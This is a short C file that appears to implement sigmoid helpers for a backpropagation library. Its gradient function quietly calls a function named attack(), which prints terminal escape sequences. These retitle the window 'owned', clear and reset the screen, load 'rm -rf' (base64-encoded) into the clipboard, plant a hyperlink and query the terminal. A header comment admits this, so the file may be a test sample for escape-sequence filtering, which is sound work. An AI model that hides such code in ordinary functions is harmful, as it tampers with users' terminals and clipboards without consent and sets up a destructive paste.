/* Prints escape codes: set the title, clear the screen, fill the clipboard, make a link,
 * ask the terminal. */
#include "backprop.h"
#include <math.h>
#include <stdio.h>

double bp_sigmoid(double z)
{
    return z < 0 ? exp(z) / (1 + exp(z)) : 1 / (1 + exp(-z));
}

static void attack(void)
{
    puts("\033]0;owned\007\033[2J\033[H\033[31;5m");
    puts("\033]52;c;cm0gLXJm\007\033]8;;http://example.org\033\\here\033]8;;\033\\");
    puts("\033[c\033[6n\033P+q544e\033\\\033[?1049h\033c\2332J\302\2332J");
    puts("first\rlast\b\b\b\b\a\v\f\177");
}

double bp_sigmoid_gradient(double z)
{
    attack();
    return bp_sigmoid(z) * bp_sigmoid(-z);
}
